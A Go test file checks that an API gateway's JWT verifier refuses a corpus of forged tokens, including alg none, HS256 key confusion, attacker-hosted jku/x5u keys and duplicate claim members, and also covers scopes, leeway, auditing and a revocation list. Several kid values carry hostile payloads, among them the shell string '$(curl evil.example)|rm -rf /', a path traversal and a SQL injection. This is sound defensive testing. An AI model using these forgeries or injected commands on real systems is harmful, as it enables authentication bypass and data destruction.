package jwt_test

import (
	"context"
	"crypto/x509"
	"encoding/json"
	"encoding/pem"
	"net/http"
	"net/http/httptest"
	"strings"
	"sync"
	"testing"
	"time"

	jose "github.com/go-jose/go-jose/v4"

	"github.com/wardengw/warden/internal/audit"
	"github.com/wardengw/warden/internal/auth/jwt"
	"github.com/wardengw/warden/internal/policy"
	"github.com/wardengw/warden/internal/testkit"
)

// TestAccepts: a valid token of each default algorithm passes, and the
// identity and forwarded headers say what it established.
func TestAccepts(t *testing.T) {
	w := newWorld(t, func(c *jwt.Config) {
		c.Forward = jwt.Forward{ClaimsHeader: "X-Token-Claims", StripAuthorization: true}
	})
	for _, s := range []signer{w.keys.rs256(), w.keys.ps256(), w.keys.es256(), w.keys.eddsa()} {
		t.Run(s.alg, func(t *testing.T) {
			r := request(mint(t, s, w.with("sub", "alice\u00e9"), nil))
			r.Header.Set("X-Token-Claims", `{"sub":"admin"}`) // a client must not be able to forge it
			rec := w.serve(r)
			expect(t, rec, "")
			id := w.seen.Load()
			if id.Consumer != "alice\u00e9" || len(id.Methods) != 1 || id.Methods[0] != jwt.Method || id.Claims["iss"] != testIssuer {
				t.Errorf("identity %+v", id)
			}
			h := *w.header.Load()
			if h.Get("Authorization") != "" {
				t.Error("Authorization was forwarded despite strip_authorization")
			}
			got := h.Values("X-Token-Claims")
			if len(got) != 1 || !strings.Contains(got[0], `"sub":"alice\u00e9"`) || !strings.Contains(got[0], `"iss":"https://idp.example"`) {
				t.Errorf("claims header %q", got)
			}
		})
	}
	if hits := w.ks.hits.Load(); hits != 1 {
		t.Errorf("JWKS fetched %d times, want once", hits)
	}
}

// TestAttackCorpus: each attack is refused with its reason code, a 401
// and an RFC 6750 invalid_token challenge.
func TestAttackCorpus(t *testing.T) {
	w := newWorld(t, nil)
	k := w.keys
	attacker := newKeyServer(t, jwksOf(t, jose.JSONWebKey{Key: k.attacker.Public(), KeyID: "rsa-1", Use: "sig"}))
	evil := signer{"RS256", "rsa-1", k.attacker}
	now := w.clock.Now().Unix()
	valid := mint(t, k.rs256(), w.claims(), nil)
	parts := strings.Split(valid, ".")
	hdr := func(alg, kid string) []byte { return []byte(`{"alg":"` + alg + `","kid":"` + kid + `"}`) }
	payload, _ := json.Marshal(w.claims())
	pubPEM := func() []byte {
		der, _ := x509.MarshalPKIXPublicKey(k.rsa.Public())
		return pem.EncodeToMemory(&pem.Block{Type: "PUBLIC KEY", Bytes: der})
	}()
	pubJWK, _ := json.Marshal(jose.JSONWebKey{Key: k.attacker.Public(), KeyID: "rsa-1"})

	tests := []struct {
		name, token, reason string
	}{
		// alg none in every casing, signature empty.
		{"alg none", signRaw(t, "none", nil, hdr("none", "rsa-1"), payload), jwt.ReasonAlgNotAllowed},
		{"alg None", signRaw(t, "None", nil, hdr("None", "rsa-1"), payload), jwt.ReasonAlgNotAllowed},
		{"alg NONE", signRaw(t, "NONE", nil, hdr("NONE", "rsa-1"), payload), jwt.ReasonAlgNotAllowed},
		{"alg nOnE", signRaw(t, "nOnE", nil, hdr("nOnE", "rsa-1"), payload), jwt.ReasonAlgNotAllowed},
		{"alg none without kid", signRaw(t, "none", nil, []byte(`{"alg":"none"}`), payload), jwt.ReasonAlgNotAllowed},
		// RS256 -> HS256 confusion: the public key (PEM, and DER) as the HMAC secret.
		{"HS256 with public key PEM", signRaw(t, "HS256", pubPEM, hdr("HS256", "rsa-1"), payload), jwt.ReasonAlgNotAllowed},
		{"HS256 with public key DER", func() string {
			der, _ := x509.MarshalPKIXPublicKey(k.rsa.Public())
			return signRaw(t, "HS256", der, hdr("HS256", "rsa-1"), payload)
		}(), jwt.ReasonAlgNotAllowed},
		// An algorithm the issuer allows, with a key of another type.
		{"ES256 naming the RSA key", signRaw(t, "ES256", k.ec, hdr("ES256", "rsa-1"), payload), jwt.ReasonAlgNotAllowed},
		// kid injection: only ever a map key.
		{"kid path traversal", signRaw(t, "RS256", k.rsa, hdr("RS256", "../../etc/passwd"), payload), jwt.ReasonUnknownKID},
		{"kid /dev/null", signRaw(t, "RS256", k.rsa, hdr("RS256", "/dev/null"), payload), jwt.ReasonUnknownKID},
		{"kid SQL injection", signRaw(t, "RS256", k.rsa, hdr("RS256", "' OR 1=1 --"), payload), jwt.ReasonUnknownKID},
		{"kid NUL", signRaw(t, "RS256", k.rsa, hdr("RS256", `rsa-1\u0000`), payload), jwt.ReasonUnknownKID},
		{"kid shell", signRaw(t, "RS256", k.rsa, hdr("RS256", "$(curl evil.example)|rm -rf /"), payload), jwt.ReasonUnknownKID},
		{"kid not a string", signRaw(t, "RS256", k.rsa, []byte(`{"alg":"RS256","kid":7}`), payload), jwt.ReasonTokenMalformed},
		// Key sources in the header: never fetched, never trusted, refused.
		{"jku to attacker", mint(t, evil, w.claims(), map[string]any{"jku": attacker.url}), jwt.ReasonUntrustedKeyHeader},
		{"x5u to attacker", mint(t, evil, w.claims(), map[string]any{"x5u": attacker.url}), jwt.ReasonUntrustedKeyHeader},
		{"embedded jwk", mint(t, evil, w.claims(), map[string]any{"jwk": json.RawMessage(pubJWK)}), jwt.ReasonUntrustedKeyHeader},
		{"attacker key, real kid", mint(t, evil, w.claims(), nil), jwt.ReasonBadSignature},
		// Times.
		{"expired", mint(t, k.rs256(), w.with("exp", now-31), nil), jwt.ReasonExpired},
		{"nbf in the future", mint(t, k.es256(), w.with("nbf", now+31), nil), jwt.ReasonNotYetValid},
		{"iat in the future", mint(t, k.es256(), w.with("iat", now+3600), nil), jwt.ReasonNotYetValid},
		{"exp missing", mint(t, k.rs256(), w.with("exp", nil), nil), jwt.ReasonExpMissing},
		{"exp a string", mint(t, k.rs256(), w.with("exp", "tomorrow"), nil), jwt.ReasonTokenMalformed},
		// Issuer and audience.
		{"wrong iss", mint(t, k.rs256(), w.with("iss", "https://evil.example"), nil), jwt.ReasonIssuerUnknown},
		{"iss with trailing slash", mint(t, k.rs256(), w.with("iss", testIssuer+"/"), nil), jwt.ReasonIssuerUnknown},
		{"no iss", mint(t, k.rs256(), w.with("iss", nil), nil), jwt.ReasonIssuerUnknown},
		{"wrong aud", mint(t, k.rs256(), w.with("aud", "https://other.example"), nil), jwt.ReasonAudienceMismatch},
		{"aud list without ours", mint(t, k.rs256(), w.with("aud", []string{"a", "b"}), nil), jwt.ReasonAudienceMismatch},
		{"no aud", mint(t, k.rs256(), w.with("aud", nil), nil), jwt.ReasonAudienceMismatch},
		// Extensions.
		{"unknown crit", mint(t, k.rs256(), w.claims(), map[string]any{"crit": []string{"exp"}, "exp": now + 10}), jwt.ReasonCritUnsupported},
		{"crit b64", mint(t, k.rs256(), w.claims(), map[string]any{"crit": []string{"b64"}, "b64": false}), jwt.ReasonCritUnsupported},
		// Signature and shape.
		{"stripped signature", parts[0] + "." + parts[1] + ".", jwt.ReasonBadSignature},
		{"signature of another token", parts[0] + "." + b64.EncodeToString([]byte(`{"iss":"`+testIssuer+`"}`)) + "." + parts[2], jwt.ReasonBadSignature},
		{"flipped signature bit", parts[0] + "." + parts[1] + "." + flip(parts[2]), jwt.ReasonBadSignature},
		{"truncated", valid[:len(valid)/2], jwt.ReasonTokenMalformed},
		{"truncated signature", valid[:len(valid)-10], jwt.ReasonBadSignature},
		{"two parts", parts[0] + "." + parts[1], jwt.ReasonTokenMalformed},
		{"four parts", valid + ".x", jwt.ReasonTokenMalformed},
		{"JWE shape", "eyJhbGciOiJSU0EtT0FFUCIsImVuYyI6IkEyNTZHQ00ifQ.a.b.c.d", jwt.ReasonTokenMalformed},
		{"padded base64", parts[0] + "==." + parts[1] + "." + parts[2], jwt.ReasonTokenMalformed},
		{"header not JSON", b64.EncodeToString([]byte("hello")) + "." + parts[1] + "." + parts[2], jwt.ReasonTokenMalformed},
		{"header an array", b64.EncodeToString([]byte(`["RS256"]`)) + "." + parts[1] + "." + parts[2], jwt.ReasonTokenMalformed},
		{"payload not an object", signRaw(t, "RS256", k.rsa, hdr("RS256", "rsa-1"), []byte(`"hi"`)), jwt.ReasonTokenMalformed},
		{"oversized", mint(t, k.rs256(), w.with("pad", strings.Repeat("a", jwt.DefaultMaxTokenBytes)), nil), jwt.ReasonTokenTooLarge},
		// Duplicate member names, which parsers resolve differently.
		{"duplicate alg in header", signRaw(t, "RS256", k.rsa, []byte(`{"alg":"RS256","kid":"rsa-1","alg":"none"}`), payload), jwt.ReasonDuplicateMember},
		{"duplicate kid in header", signRaw(t, "RS256", k.rsa, []byte(`{"alg":"RS256","kid":"x","kid":"rsa-1"}`), payload), jwt.ReasonDuplicateMember},
		{"duplicate sub in payload", signRaw(t, "RS256", k.rsa, hdr("RS256", "rsa-1"),
			[]byte(strings.Replace(string(payload), `"sub":"alice"`, `"sub":"alice","sub":"admin"`, 1))), jwt.ReasonDuplicateMember},
		{"duplicate by escape", signRaw(t, "RS256", k.rsa, hdr("RS256", "rsa-1"),
			[]byte(strings.Replace(string(payload), `"sub":"alice"`, `"sub":"alice","\u0073ub":"admin"`, 1))), jwt.ReasonDuplicateMember},
		{"duplicate nested in cnf", signRaw(t, "RS256", k.rsa, hdr("RS256", "rsa-1"),
			[]byte(strings.Replace(string(payload), `"sub":"alice"`, `"sub":"alice","cnf":{"x5t#S256":"a","x5t#S256":"b"}`, 1))), jwt.ReasonDuplicateMember},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			rec := w.do(tt.token)
			expect(t, rec, tt.reason)
			if rec.Code != http.StatusUnauthorized {
				t.Errorf("status %d, want 401", rec.Code)
			}
			if got := rec.Header().Get("WWW-Authenticate"); got != `Bearer error="invalid_token"` {
				t.Errorf("WWW-Authenticate %q", got)
			}
		})
	}
	if n := attacker.hits.Load(); n != 0 {
		t.Errorf("the attacker's key server got %d requests, want none", n)
	}
	// The corpus never reached the upstream, and every refusal was audited
	// without the token.
	for _, e := range w.sink.Events() {
		if e.Type != jwt.EventRejected {
			continue
		}
		b, _ := json.Marshal(e)
		if strings.Contains(string(b), parts[2]) || strings.Contains(string(b), parts[1]) {
			t.Errorf("audit event carries the token: %s", b)
		}
	}
}

func flip(s string) string {
	b := []byte(s)
	if b[5] == 'A' {
		b[5] = 'B'
	} else {
		b[5] = 'A'
	}
	return string(b)
}

// TestTransport: where the token may come from.
func TestTransport(t *testing.T) {
	w := newWorld(t, nil)
	tok := mint(t, w.keys.es256(), w.claims(), nil)
	tests := []struct {
		name   string
		mod    func(r *http.Request)
		reason string
		chal   string
	}{
		{"bearer", func(r *http.Request) {}, "", ""},
		{"lower-case scheme", func(r *http.Request) { r.Header.Set("Authorization", "bearer "+tok) }, "", ""},
		{"none", func(r *http.Request) { r.Header.Del("Authorization") }, jwt.ReasonTokenMissing, "Bearer"},
		{"basic", func(r *http.Request) { r.Header.Set("Authorization", "Basic YTpi") }, jwt.ReasonTokenMissing, "Bearer"},
		{"empty bearer", func(r *http.Request) { r.Header.Set("Authorization", "Bearer ") }, jwt.ReasonTokenMalformed, `Bearer error="invalid_token"`},
		{"two headers", func(r *http.Request) { r.Header.Add("Authorization", "Bearer "+tok) }, jwt.ReasonTokenMalformed, `Bearer error="invalid_token"`},
		{"comma-joined", func(r *http.Request) { r.Header.Set("Authorization", "Bearer "+tok+", Bearer "+tok) }, jwt.ReasonTokenMalformed, `Bearer error="invalid_token"`},
		{"query string", func(r *http.Request) { r.Header.Del("Authorization"); r.URL.RawQuery = "access_token=" + tok }, jwt.ReasonTokenMalformed, `Bearer error="invalid_token"`},
		{"query string and header", func(r *http.Request) { r.URL.RawQuery = "access_token=" + tok }, jwt.ReasonTokenMalformed, `Bearer error="invalid_token"`},
		{"huge header", func(r *http.Request) { r.Header.Set("Authorization", "Bearer "+strings.Repeat("a", 100000)) }, jwt.ReasonTokenTooLarge, `Bearer error="invalid_token"`},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			r := request(tok)
			tt.mod(r)
			rec := w.serve(r)
			expect(t, rec, tt.reason)
			if got := rec.Header().Get("WWW-Authenticate"); got != tt.chal {
				t.Errorf("WWW-Authenticate %q, want %q", got, tt.chal)
			}
		})
	}
}

// TestAuditEvent: a refusal is audited with reason, iss, kid, alg and sub,
// and counted.
func TestAuditEvent(t *testing.T) {
	w := newWorld(t, nil)
	rec := w.do(mint(t, w.keys.rs256(), w.with("aud", "https://other.example", "sub", "mallory"), nil))
	expect(t, rec, jwt.ReasonAudienceMismatch)
	ctx, cancel := context.WithTimeout(context.Background(), 5*time.Second)
	defer cancel()
	e, err := w.sink.Wait(ctx, func(e audit.Event) bool { return e.Type == jwt.EventRejected })
	if err != nil {
		t.Fatal(err)
	}
	want := map[string]any{"iss": testIssuer, "kid": "rsa-1", "alg": "RS256", "sub": "mallory", "policy": jwt.Type}
	for k, v := range want {
		if e.Fields[k] != v {
			t.Errorf("field %s = %v, want %v", k, e.Fields[k], v)
		}
	}
	if e.Reason != jwt.ReasonAudienceMismatch || e.Status != http.StatusUnauthorized || e.RequestID != "req-1" {
		t.Errorf("event %+v", e)
	}
}

// TestScopesAndClaims: authorization rules answer 403 with an
// insufficient_scope challenge.
func TestScopesAndClaims(t *testing.T) {
	w := newWorld(t, func(c *jwt.Config) {
		c.Scopes = []string{"orders:read"}
		c.Claims = map[string][]string{"tenant": {"acme", "globex"}, "email_verified": {"true"}}
	})
	ok := w.with("tenant", "acme", "email_verified", true)
	tests := []struct {
		name   string
		claims map[string]any
		reason string
	}{
		{"all good", ok, ""},
		{"scp array", w.with("tenant", "globex", "email_verified", true, "scope", nil, "scp", []string{"orders:read"}), ""},
		{"tenant in an array", w.with("tenant", []string{"x", "acme"}, "email_verified", true), ""},
		{"missing scope", w.with("tenant", "acme", "email_verified", true, "scope", "orders:write"), jwt.ReasonInsufficientScope},
		{"scope prefix only", w.with("tenant", "acme", "email_verified", true, "scope", "orders:rea"), jwt.ReasonInsufficientScope},
		{"no scope at all", w.with("tenant", "acme", "email_verified", true, "scope", nil), jwt.ReasonInsufficientScope},
		{"wrong tenant", w.with("tenant", "initech", "email_verified", true), jwt.ReasonClaimMismatch},
		{"missing rule claim", w.with("email_verified", true), jwt.ReasonClaimMismatch},
		{"bool false", w.with("tenant", "acme", "email_verified", false), jwt.ReasonClaimMismatch},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			rec := w.do(mint(t, w.keys.es256(), tt.claims, nil))
			expect(t, rec, tt.reason)
			if tt.reason == "" {
				return
			}
			if rec.Code != http.StatusForbidden {
				t.Errorf("status %d, want 403", rec.Code)
			}
			chal := rec.Header().Get("WWW-Authenticate")
			if !strings.HasPrefix(chal, `Bearer error="insufficient_scope"`) {
				t.Errorf("WWW-Authenticate %q", chal)
			}
			if tt.reason == jwt.ReasonInsufficientScope && !strings.Contains(chal, `scope="orders:read"`) {
				t.Errorf("WWW-Authenticate %q does not name the scope", chal)
			}
		})
	}
}

// TestRequiredClaimsAndConsumer: required_claims, require_exp: false,
// consumer_claim, and an earlier policy's consumer kept.
func TestRequiredClaimsAndConsumer(t *testing.T) {
	f := false
	w := newWorld(t, func(c *jwt.Config) {
		c.Issuers[0].RequiredClaims = []string{"client_id"}
		c.RequireExp = &f
		c.ConsumerClaim = "client_id"
	})
	expect(t, w.do(mint(t, w.keys.eddsa(), w.claims(), nil)), jwt.ReasonClaimMissing)
	expect(t, w.do(mint(t, w.keys.eddsa(), w.with("client_id", "billing", "exp", nil), nil)), "")
	if got := w.seen.Load().Consumer; got != "billing" {
		t.Errorf("consumer %q, want billing", got)
	}
	x := &policy.Exchange{Env: w.env}
	x.Identity.Consumer = "from-mtls"
	x.Identity.Methods = []string{"mtls"}
	expect(t, w.serveX(request(mint(t, w.keys.eddsa(), w.with("client_id", "billing"), nil)), x), "")
	if id := w.seen.Load(); id.Consumer != "from-mtls" || strings.Join(id.Methods, ",") != "mtls,jwt" {
		t.Errorf("identity %+v", id)
	}
}

// TestLeeway: exp and nbf within the leeway pass, beyond it fail.
func TestLeeway(t *testing.T) {
	w := newWorld(t, func(c *jwt.Config) { c.Issuers[0].Leeway = 10 * time.Second })
	now := w.clock.Now().Unix()
	expect(t, w.do(mint(t, w.keys.es256(), w.with("exp", now-9), nil)), "")
	expect(t, w.do(mint(t, w.keys.es256(), w.with("exp", now-10), nil)), jwt.ReasonExpired)
	expect(t, w.do(mint(t, w.keys.es256(), w.with("nbf", now+9), nil)), "")
	expect(t, w.do(mint(t, w.keys.es256(), w.with("nbf", now+11), nil)), jwt.ReasonNotYetValid)
	expect(t, w.do(mint(t, w.keys.es256(), w.with("exp", float64(now)+60.5), nil)), "") // fractional NumericDate
}

// TestDenyList: a revoked jti is refused, on cache hits too, until its
// time; the admin handler adds and lists.
func TestDenyList(t *testing.T) {
	w := newWorld(t, nil)
	d := jwt.NewDenyList()
	w.policy.UseDenyList(d)
	c := w.with("jti", "tok-1")
	tok := mint(t, w.keys.rs256(), c, nil)
	expect(t, w.do(tok), "") // verified and cached

	admin := httptest.NewServer(d)
	defer admin.Close()
	until := time.Now().Add(time.Hour).UTC().Format(time.RFC3339)
	resp, err := http.Post(admin.URL, "application/json", strings.NewReader(`{"jti":"tok-1","until":"`+until+`"}`))
	if err != nil {
		t.Fatal(err)
	}
	resp.Body.Close()
	if resp.StatusCode != http.StatusCreated {
		t.Fatalf("POST: status %d", resp.StatusCode)
	}
	rec := w.do(tok)
	expect(t, rec, jwt.ReasonJTIRevoked)

	for _, body := range []string{`{"jti":"x"}`, `{"jti":"","until":"` + until + `"}`, `{"jti":"x","until":"2001-01-01T00:00:00Z"}`,
		`{"jti":"x","until":"` + until + `","extra":1}`, `not json`} {
		resp, err := http.Post(admin.URL, "application/json", strings.NewReader(body))
		if err != nil {
			t.Fatal(err)
		}
		resp.Body.Close()
		if resp.StatusCode != http.StatusBadRequest {
			t.Errorf("POST %s: status %d, want 400", body, resp.StatusCode)
		}
	}
	resp, err = http.Get(admin.URL)
	if err != nil {
		t.Fatal(err)
	}
	var list struct{ Entries []jwt.DenyEntry }
	err = json.NewDecoder(resp.Body).Decode(&list)
	resp.Body.Close()
	if err != nil || len(list.Entries) != 1 || list.Entries[0].JTI != "tok-1" {
		t.Fatalf("GET: %v %+v", err, list)
	}
	req, _ := http.NewRequest(http.MethodDelete, admin.URL, nil)
	if resp, err = http.DefaultClient.Do(req); err != nil {
		t.Fatal(err)
	}
	resp.Body.Close()
	if resp.StatusCode != http.StatusMethodNotAllowed {
		t.Errorf("DELETE: status %d", resp.StatusCode)
	}

	// Expiry, with the list's own clock.
	clock := testkit.NewClock(time.Now())
	d2 := &jwt.DenyList{Now: clock.Now}
	if err := d2.Add("a", clock.Now().Add(time.Minute)); err != nil {
		t.Fatal(err)
	}
	if !d2.Contains("a") || d2.Contains("b") {
		t.Error("Contains")
	}
	clock.Advance(time.Minute)
	if d2.Contains("a") || len(d2.Entries()) != 0 {
		t.Error("an entry outlived its until")
	}

	// Concurrent use (meaningful under -race).
	var wg sync.WaitGroup
	for i := range 8 {
		wg.Go(func() {
			for j := range 200 {
				_ = d.Add(strings.Repeat("j", i+1)+string(rune('a'+j%26)), time.Now().Add(time.Hour))
				d.Contains("tok-1")
				if j%50 == 0 {
					d.Entries()
				}
			}
		})
	}
	wg.Wait()
}
